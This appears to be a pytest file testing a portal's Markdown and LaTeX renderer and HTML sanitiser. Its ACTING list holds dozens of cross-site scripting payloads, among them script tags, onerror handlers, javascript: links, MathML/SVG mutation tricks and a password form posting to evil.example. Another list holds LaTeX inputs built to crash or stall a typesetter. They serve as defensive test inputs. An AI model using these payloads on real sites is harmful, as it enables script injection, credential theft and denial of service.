"""Whatever is sent, the answer is harmless, comes soon, and comes from a process still alive."""

import re
import time

import pytest

from portal.common.text import MAX_LENGTH, plain, render, render_inline
from portal.common.text.formulas import Formula, typeset
from portal.common.text.sanitising import sanitise

# A loaded machine is slow: the bound tells minutes from seconds, not good code from better.
SOON = 60

ACTING = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style>*{background:url(//evil.example)}</style></svg>",
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><mi xlink:href="javascript:alert(1)" href="//evil.example">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=x></object><embed src=x><video src=x onerror=alert(1)></video>",
    "<div id=content class=login-form onclick=alert(1)>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](/a.png)',
    "[x](/a \"onmouseover='alert(1)'\")",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\mathrm{<script>alert(1)</script>}$",
    "$\\nosuch<script>alert(1)</script>$",
    "$$</math><script>alert(1)</script>$$",
    '$\\begin{align}x\\label{"onload=alert(1)}\\end{align}$',
    "\x02x\x03 \x00 \ud800",
]
KEPT_TAGS = set(
    re.findall(
        r"\w+",
        """p br em strong s code pre blockquote ul ol li h2 h3 a img div span small table thead tbody tr th td b i u
math mrow mi mn mo mtext mspace mfrac msub msup msubsup mtable mtr mtd""",
    )
)
KEPT_ATTRIBUTES = set(
    re.findall(
        r"\w+",
        """href title rel src alt loading class tabindex display stretchy lspace rspace form
displaystyle scriptlevel""",
    )
)


@pytest.mark.parametrize("make", [render, render_inline, sanitise], ids=lambda make: make.__name__)
@pytest.mark.parametrize("source", ACTING)
def test_nothing_in_a_text_can_act(make, source):
    html = make(source.encode(errors="replace").decode() if make is sanitise else source)

    for tag, attributes in re.findall(r"<([a-zA-Z][^\s/>]*)((?:\"[^\"]*\"|[^>\"])*)>", html):
        assert tag in KEPT_TAGS
        for name, value in re.findall(r"([^\s=\"]+)=\"([^\"]*)\"", attributes):
            assert name in KEPT_ATTRIBUTES
            assert name != "href" or value.startswith(("http://", "https://", "mailto:", "/", "#"))
            assert name != "src" or re.match(r"/(?![/\\])", value)


@pytest.mark.parametrize(
    "address",
    [
        "http://[::1",
        "http://[",
        "//[x",
        "http://a]b",
        "http://ex℀mple.org",
        "http://a:999999",
        "[::1",
    ],
)
@pytest.mark.parametrize("make", [render, render_inline, plain], ids=lambda make: make.__name__)
def test_an_address_that_is_none_does_no_harm(make, address):
    for source in (address, f"<{address}>", f"[x]({address})", f"![x]({address})", f"/{address}"):
        assert isinstance(make(source), str)


def test_a_picture_from_elsewhere_becomes_a_link_and_is_never_fetched():
    assert render("![A plot of $x$](https://elsewhere.example/x.png)") == (
        '<p><a href="https://elsewhere.example/x.png" rel="noopener nofollow">A plot of x</a></p>'
    )


def test_html_that_somebody_writes_is_shown_as_written():
    assert render("<b>bold</b> & <i>") == "<p>&lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;</p>"


def again(pattern: str, length: int = MAX_LENGTH) -> str:
    return (pattern * (length // len(pattern) + 1))[:length]


PATTERNS = [
    *(
        "[",
        "![",
        "[a](",
        "![[a](",
        "[a][",
        "*[x](",
        "]",
        "(",
        "<",
        "<a ",
        "<!--",
        "&#x",
        "\\",
        "`",
        "`a ",
    ),
    *(
        "*",
        "_",
        "* a ",
        "**a ",
        "*a _a ",
        "*a**b",
        "~",
        "> ",
        "- ",
        "1. ",
        "> - ",
        "- a\n",
        "> - a\n",
        "#\n",
    ),
    *(
        "|",
        "a|b\n-|-\n",
        "[a]: b\n",
        "[^a]: ",
        "a\n\n",
        "a\n=\n",
        " ",
        "\t",
        "\n",
        "a",
        "http://a ",
        "~~~a\n",
    ),
    *(
        "$",
        "$a ",
        "$x",
        "$x$ ",
        "$$\n",
        "$$a\n",
        "\\[\n",
        "\\[a\nb\n",
        "- \\[\n  a\n",
        "\\(",
        "![$x$",
    ),
    *("\\begin{align}\n", "> $$\n", "*[`_<a&$\\(\\[", "\ud800", "\x00", "∑"),
]


@pytest.mark.uncovered
@pytest.mark.parametrize("pattern", PATTERNS)
def test_a_text_of_one_pattern_is_rendered_soon(pattern):
    start = time.monotonic()

    render(again(pattern, MAX_LENGTH // 10))

    assert time.monotonic() - start < SOON / 10


@pytest.mark.uncovered
@pytest.mark.parametrize(
    "pattern", ["[", "![[a](", "*a**b", "- a\n", "a|b\n-|-\n", "![$x$", "$x$ ", "$$\n", "#\n"]
)
def test_the_longest_text_of_one_pattern_is_rendered_soon(pattern):
    start = time.monotonic()

    render(again(pattern))

    assert time.monotonic() - start < SOON


@pytest.mark.parametrize(
    "source",
    [
        "".join("  " * level + "- a\n" for level in range(300)),
        "".join(">" * level + " a\n" for level in range(1, 400)),
        "[" * 2_000 + "a" + "]" * 2_000,
        "*" * 2_000 + "a" + "*" * 2_000,
    ],
    ids=["lists", "quotations", "brackets", "emphasis"],
)
def test_deep_nesting_is_cut_off(source):
    html = render(source)

    assert max(html.count("<ul>"), html.count("<blockquote>"), html.count("<em>")) <= 1_000


@pytest.mark.parametrize("make", [render, render_inline, plain], ids=lambda make: make.__name__)
def test_a_megabyte_is_shown_as_written_and_soon(make):
    start = time.monotonic()

    text = make(again("<b>$x$ *a*\n\n", 1_000_000))

    assert "<em>" not in text
    assert "<b>" not in text or make is plain
    assert time.monotonic() - start < SOON


# math-core ends its process on some of these and never returns on others; the portal does neither.
DEADLY = {
    "braces": "{" * 40_000 + "x" + "}" * 40_000,
    "open braces": "{" * 2_000,
    "roots": r"\sqrt" * 399 + " x",
    "fractions": r"\frac1" * 330 + "x",
    "accents": r"\hat" * 499 + " x",
    "fences": r"\left(" * 150 + r"\right)" * 150,
    "matrices": r"\begin{matrix}" * 60 + r"\end{matrix}" * 60,
    "options": r"\sqrt[" * 300 + "x" + "]x" * 90,
    "colours": r"\color{red}" * 180,
    "sums": "∑" * 2_000,
    "scripts": "x^" * 1_000,
    "primes": "'" * 2_000,
    "open brackets": "(" * 40 + "x",
    "open brackets one by one": "x(y[" * 24,
    "brackets in groups": "{(" * 25 + "}" * 25,
    "brackets by name": r"\langle " * 45,
    "brackets closed elsewhere": r"\{\overset]" * 40,
    "brackets within a command": r"\pmod\xrightarrow \operatorname*nor " * 36,
    "macros": r"\def\a{\a\a}\a",
    "own commands": r"\norm{" * 45 + "x" + "}" * 45,
    "comments": "{%}\n" * 499,
    "half a character": "\ud800",
}


@pytest.mark.parametrize("tex", DEADLY.values(), ids=DEADLY.keys())
def test_no_formula_ends_the_process_or_takes_for_ever(tex):
    start = time.monotonic()

    html = render(f"$y$ ${tex}$")

    assert "<mi>y</mi>" in html
    assert time.monotonic() - start < SOON


def test_a_text_full_of_deadly_formulas_is_given_up_soon():
    start = time.monotonic()

    html = render(" ".join(f"${'(' * 40}{number}$" for number in range(500)))

    assert html.count("formula-broken") == 500
    assert time.monotonic() - start < SOON


def test_what_ends_the_typesetter_costs_only_itself():
    deadly = Formula("(" * 41)

    results = typeset([Formula("a"), deadly, Formula("b")])

    assert results[deadly].problem
    assert results[Formula("a")].mathml == "<math><mi>a</mi></math>"
    assert results[Formula("b")].mathml == "<math><mi>b</mi></math>"


def test_formulas_beyond_the_thousandth_are_shown_as_written():
    html = render(" ".join(f"$x_{{{number}}}$" for number in range(1_003)))

    assert html.count("<math>") == 1_000
    assert html.count("too many formulas in one text") == 3


def test_formulas_that_grow_beyond_measure_are_shown_as_written():
    html = render(" ".join(f"${again(chr(39), 1_900)}{number}$" for number in range(50)))

    assert len(html) < 1_500_000
    assert "too much work" in html
